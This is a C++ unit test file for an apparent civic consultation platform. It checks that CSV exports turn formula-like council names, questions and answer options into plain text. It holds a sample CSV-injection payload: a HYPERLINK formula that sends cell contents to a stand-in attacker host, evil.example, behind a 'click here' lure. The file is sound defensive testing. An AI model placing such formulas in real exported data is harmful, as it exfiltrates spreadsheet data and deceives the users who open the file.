// Issue 24, item 9: a text someone typed that a spreadsheet would run as a formula (=, +, -, @,
// a tab or a carriage return first) reaches every CSV export as text: a Council's name in the
// unit report's CSV, a question's and its options' words in results.csv.
#include <gtest/gtest.h>

#include <chrono>

#include "tests/api/harness.h"

namespace ln::test {
namespace {

int this_year() {
  return static_cast<int>(std::chrono::year_month_day(std::chrono::floor<std::chrono::days>(
                                                          std::chrono::system_clock::now()))
                              .year());
}

// The cells of an RFC 4180 CSV (quoted fields, doubled quotes), row by row.
std::vector<std::vector<std::string>> cells(std::string csv) {
  if (csv.rfind("\xEF\xBB\xBF", 0) == 0) csv.erase(0, 3);
  std::vector<std::vector<std::string>> rows(1);
  std::string cell;
  bool quoted = false;
  for (std::size_t i = 0; i < csv.size(); ++i) {
    char c = csv[i];
    if (quoted) {
      if (c == '"' && i + 1 < csv.size() && csv[i + 1] == '"') {
        cell += '"';
        ++i;
      } else if (c == '"') {
        quoted = false;
      } else {
        cell += c;
      }
    } else if (c == '"') {
      quoted = true;
    } else if (c == ',') {
      rows.back().push_back(cell);
      cell.clear();
    } else if (c == '\n') {
      rows.back().push_back(cell);
      cell.clear();
      rows.emplace_back();
    } else if (c != '\r') {
      cell += c;
    }
  }
  if (!cell.empty() || !rows.back().empty()) rows.back().push_back(cell);
  return rows;
}

// What a spreadsheet reads as a formula.
bool starts_a_formula(const std::string& cell) {
  return !cell.empty() && std::string("=+-@\t\r").find(cell.front()) != std::string::npos;
}

const std::string kFormula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")";

class SpreadsheetFormulas : public ::testing::Test {
 protected:
  SpreadsheetFormulas() : server(demo_options()) {
    moderator = login(server, "moderator");
    auto units = server.get("/api/v1/units?limit=200", bearer(login(server, "admin"))).json();
    for (const auto& u : units["items"])
      if (u["code"] == "HCM-PN-P15") ward15 = u["id"];
  }
  Server server;
  std::string moderator, ward15;
};

TEST_F(SpreadsheetFormulas, ACouncilNamedLikeAFormulaIsTextInTheReportCsv) {
  int y = this_year();
  auto council = server.post_json("/api/v1/councils",
                                  {{"unit_id", ward15},
                                   {"name", kFormula},
                                   {"term_start", std::to_string(y) + "-01-01"},
                                   {"term_end", std::to_string(y + 1) + "-12-31"},
                                   {"member_cap", 9}},
                                  bearer(moderator));
  ASSERT_EQ(council.status, 201) << council.body;
  auto csv =
      server.get("/api/v1/units/" + ward15 + "/reports?period=" + std::to_string(y) + "&format=csv",
                 bearer(moderator));
  ASSERT_EQ(csv.status, 200) << csv.body;
  bool named = false;
  for (const auto& row : cells(csv.body))
    for (const auto& cell : row) {
      EXPECT_FALSE(starts_a_formula(cell)) << cell;
      named = named || cell == "'" + kFormula;
    }
  EXPECT_TRUE(named) << csv.body;  // shown, whole, as text
}

TEST_F(SpreadsheetFormulas, QuestionsAndOptionsLikeFormulasAreTextInResultsCsv) {
  nlohmann::json cards = nlohmann::json::object(), text = nlohmann::json::object(),
                 plus = nlohmann::json::object(), at = nlohmann::json::object(),
                 tab = nlohmann::json::object();
  for (std::string b : {"7-10", "11-13", "14-15", "16-17"}) {
    cards[b] = {{"why", "Vì sao"}, {"who_reads", "Đoàn phường"}, {"hear_back", "Trước Tết"}};
    text[b] = kFormula;
    plus[b] = "+1-1";
    at[b] = "@SUM(A1:A9)";
    tab[b] = "-2+3";
  }
  auto created = server.post_json("/api/v1/consultations",
                                  {{"title", "Công thức"},
                                   {"purpose", "Thử"},
                                   {"owner_unit_id", ward15},
                                   {"audience_unit_ids", {ward15}},
                                   {"audience_bands", {"7-10", "11-13", "14-15", "16-17"}},
                                   {"opens_at", std::to_string(this_year()) + "-01-01T00:00:00Z"},
                                   {"closes_at", "2099-01-01T00:00:00Z"},
                                   {"decision", "Kế hoạch"},
                                   {"decision_maker", "UBND Phường 15"},
                                   {"decision_due", "2099-02-01"},
                                   {"feedback_due", "2099-03-01"},
                                   {"info_cards", cards},
                                   {"questions",
                                    {{{"id", "q1"},
                                      {"type", "single"},
                                      {"text", text},
                                      {"options",
                                       {{{"id", "a"}, {"text", plus}},
                                        {{"id", "b"}, {"text", at}},
                                        {{"id", "c"}, {"text", tab}}}}}}}},
                                  bearer(moderator));
  ASSERT_EQ(created.status, 201) << created.body;
  std::string id = created.json()["id"];
  auto csv = server.get("/api/v1/consultations/" + id + "/results.csv", bearer(moderator));
  ASSERT_EQ(csv.status, 200) << csv.body;
  auto rows = cells(csv.body);
  ASSERT_GE(rows.size(), 4u) << csv.body;
  for (const auto& row : rows)
    for (const auto& cell : row) EXPECT_FALSE(starts_a_formula(cell)) << cell;
  EXPECT_EQ(rows[1][1], "'" + kFormula);
  EXPECT_EQ(rows[1][3], "'+1-1");
  EXPECT_EQ(rows[2][3], "'@SUM(A1:A9)");
  EXPECT_EQ(rows[3][3], "'-2+3");
}

}  // namespace
}  // namespace ln::test
